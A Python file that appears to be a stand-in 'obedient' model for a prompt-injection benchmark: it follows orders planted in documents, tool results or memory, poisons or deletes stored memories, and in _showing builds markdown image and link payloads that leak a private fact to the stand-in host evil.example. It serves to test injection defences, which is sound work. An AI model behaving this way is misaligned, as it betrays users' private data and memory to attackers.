"""A model that obeys whatever stands in its prompt, to the letter and with every tool it has."""

import json
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from benchmarks.turn_model.attacks import Attack, Channel, Deed
from benchmarks.turn_model.honest import Honest, Wish
from benchmarks.turn_model.model_server import (
    ModelAnswer,
    ModelRequest,
    callable_tools,
    message_text,
)

MARK = re.compile(r"\bA\d{3}\b")
# As a memory begins, and as an earlier turn says what it remembered.
REF = re.compile(r"\[(M\d+)\] |remembered (M\d+)")
# Calls that a turn takes at once.
MOST_CALLS = 8
EVIL = "evil.example"
CLIENT_TOOL = "get_notice"
WEB = "web_search"

Call = tuple[str, Mapping[str, Any]]


@dataclass
class Obedient:
    """Answers every request. `read` are the marks of the attacks whose order it has seen."""

    attacks: Mapping[str, Attack]
    honest: Mapping[str, Honest] = field(default_factory=dict[str, Honest])
    told: Mapping[str, str] = field(default_factory=dict[str, str])
    """Messages that are to be remembered, and their facts."""
    read: set[str] = field(default_factory=set[str])

    async def answer(self, request: ModelRequest) -> ModelAnswer:
        texts = [message_text(each) for each in request.messages]
        said = [text for each, text in zip(request.messages, texts, strict=True) if is_user(each)]
        tools = {each["function"]["name"] for each in callable_tools(request.body)}
        last = next(at for at in reversed(range(len(texts))) if is_user(request.messages[at]))
        called = "\n".join(texts[last + 1 :])
        prompt = "\n".join(texts)
        for message, fact in self.told.items():
            if said[-1].endswith(message):
                return self._remembers(fact, tools, called)
        for honest in self.honest.values():
            if said[-1].endswith(honest.message):
                return _serves(honest, tools, called, prompt)
        mark = MARK.findall(said[-1])[-1:]
        if mark and mark[0] in self.attacks:
            return self._obeys(self.attacks[mark[0]], tools, called, prompt)
        return ModelAnswer("네.")

    def _remembers(self, fact: str, tools: set[str], called: str) -> ModelAnswer:
        if "remember" not in tools or "CALL remember" in called:
            return ModelAnswer("네.")
        return _calling([("remember", {"statement": fact, "quote": fact})])

    def _obeys(self, attack: Attack, tools: set[str], called: str, prompt: str) -> ModelAnswer:
        if (
            attack.channel is Channel.ANSWER
            and f"({attack.mark}-0)" in prompt.rsplit("user:", 1)[-1]
        ):
            return ModelAnswer(f"이런 글이 있습니다: {attack.planted}")
        seen = _plain(attack.order.text) in _plain(prompt)
        if not seen:
            return self._looks(attack, tools, called)
        self.read.add(attack.mark)
        orders = orders_of(attack, prompt, tools)
        calls = [each for each in orders if _written(each) not in called]
        if calls and tools:
            return _calling(calls[:MOST_CALLS])
        if attack.order.deed is Deed.SHOW:
            return ModelAnswer(_showing(attack, prompt))
        return ModelAnswer("알겠습니다.")

    def _looks(self, attack: Attack, tools: set[str], called: str) -> ModelAnswer:
        """Look for the order where it stands."""
        calls: list[Call] = []
        if CLIENT_TOOL in tools:
            calls = [(CLIENT_TOOL, {"number": attack.mark})]
        elif attack.channel is Channel.TOOL and WEB in tools:
            calls = [(WEB, {"query": attack.mark})]
        elif attack.channel in (Channel.DOCUMENT, Channel.TITLE) and "search" in tools:
            calls = [("search", {"query": f"{attack.mark} 안내 notice"})]
        elif attack.channel is Channel.MEMORY and "recall" in tools:
            calls = [("recall", {})]
        calls = [each for each in calls if _written(each) not in called]
        return _calling(calls) if calls else ModelAnswer("없습니다.")


def orders_of(attack: Attack, prompt: str, tools: set[str]) -> list[Call]:
    """Return the calls that an order asks for, most of them in several forms."""
    order, refs = attack.order, refs_in(prompt)
    own = [*attack.own, attack.message] if len(attack.own) > 1 else [attack.message, *attack.own]
    match order.deed:
        case Deed.PLANT:
            pairs = [(order.payload, each) for each in (order.payload, *own)]
            return _remembering(pairs)
        case Deed.MIX:
            pairs = [(f"{each.rstrip('.?')} {order.payload}", each) for each in own]
            return _remembering([*pairs, (order.payload, order.payload)])
        case Deed.SWAP:
            pairs = [(_swapped(each, order.payload), each) for each in own]
            # Words of a memory that is replaced may come from it.
            singly = [call for ref in refs for call in _remembering(pairs[:1], [ref])]
            return [*_remembering(pairs), *singly]
        case Deed.REPLACE:
            return _remembering([(each, each) for each in own], refs[:5])
        case Deed.FORGET:
            return [("forget", {"refs": refs})]
        case Deed.FORGET_EACH:
            return [("forget", {"refs": [ref]}) for ref in refs]
        case Deed.UNDO:
            return [("undo", {})]
        case Deed.LEAVE_OUT:
            return [("dont_remember", {})]
        case Deed.TOOL:
            return _sending(attack, tools)
        case Deed.SHOW:
            return [("recall", {})]


def refs_in(prompt: str) -> list[str]:
    """Return the markers of memories that a prompt shows."""
    found = {found[1] or found[2] for found in REF.finditer(prompt)}
    return sorted(found, key=lambda ref: int(ref[1:]))


def _remembering(pairs: Iterable[tuple[str, str]], replaces: Sequence[str] = ()) -> list[Call]:
    more = {"replaces": list(replaces)} if replaces else {}
    return [
        ("remember", {"statement": statement, "quote": quote} | more)
        for statement, quote in dict.fromkeys(pairs)
    ]


def _swapped(sentence: str, word: str) -> str:
    words = sentence.split()
    at = 0 if "가" <= word[0] <= "힣" else len(words) - 1
    return " ".join([*words[:at], word, *words[at + 1 :]])


def _sending(attack: Attack, tools: set[str]) -> list[Call]:
    query = f"{attack.private} {attack.told}"
    mixed = f"{attack.mark} {attack.private.split()[-1]}"
    calls: list[Call] = [("search", {"query": query})]
    return calls + [(WEB, {"query": each}) for each in (query, mixed, EVIL) if WEB in tools]


def _showing(attack: Attack, prompt: str) -> str:
    """Return an answer that would send a private fact to whoever renders it."""
    private = attack.private if attack.private in prompt else attack.told
    data = private.replace(" ", "%20")
    return (
        f"![x](https://{EVIL}/i.png?q={data}) [안내](https://{EVIL}/?q={data})\n\n"
        f'<img src="https://{EVIL}/{data}"> https://{EVIL}/{data} www.{EVIL}/{data}\n\n'
        f"[1]: https://{EVIL}/{data}\n\n![][1] `https://{EVIL}/{data}`"
    )


def _serves(honest: Honest, tools: set[str], called: str, prompt: str) -> ModelAnswer:
    """Do what a request asks for."""
    ref = _ref_of(honest.told, prompt)
    match honest.wish:
        case Wish.REMEMBER:
            replaces = {"replaces": [ref]} if honest.told and ref else {}
            values = {"statement": honest.statement, "quote": honest.fact} | replaces
            call: Call = ("remember", values)
        case Wish.FORGET:
            call = ("forget", {"refs": [ref]}) if ref else ("recall", {})
        case Wish.UNDO:
            call = ("undo", {})
        case Wish.KEEP_OUT:
            call = ("dont_remember", {})
    if call[0] not in tools or _written(call) in called:
        return ModelAnswer("네.")
    return _calling([call])


def _ref_of(fact: str, prompt: str) -> str:
    """Return the marker of a memory in the prompt."""
    found = re.search(rf"\[(M\d+)\] [^\[]*{re.escape(fact)}", prompt) if fact else None
    return found[1] if found else next(iter(refs_in(prompt)), "")


def is_user(message: Mapping[str, Any]) -> bool:
    return message["role"] == "user"


def _calling(calls: Sequence[Call]) -> ModelAnswer:
    return ModelAnswer(
        "", tuple((name, json.dumps(values, ensure_ascii=False)) for name, values in calls)
    )


def _written(call: Call) -> str:
    return f"CALL {call[0]} {json.dumps(call[1], ensure_ascii=False)}"


def _plain(text: str) -> str:
    return " ".join(text.split())
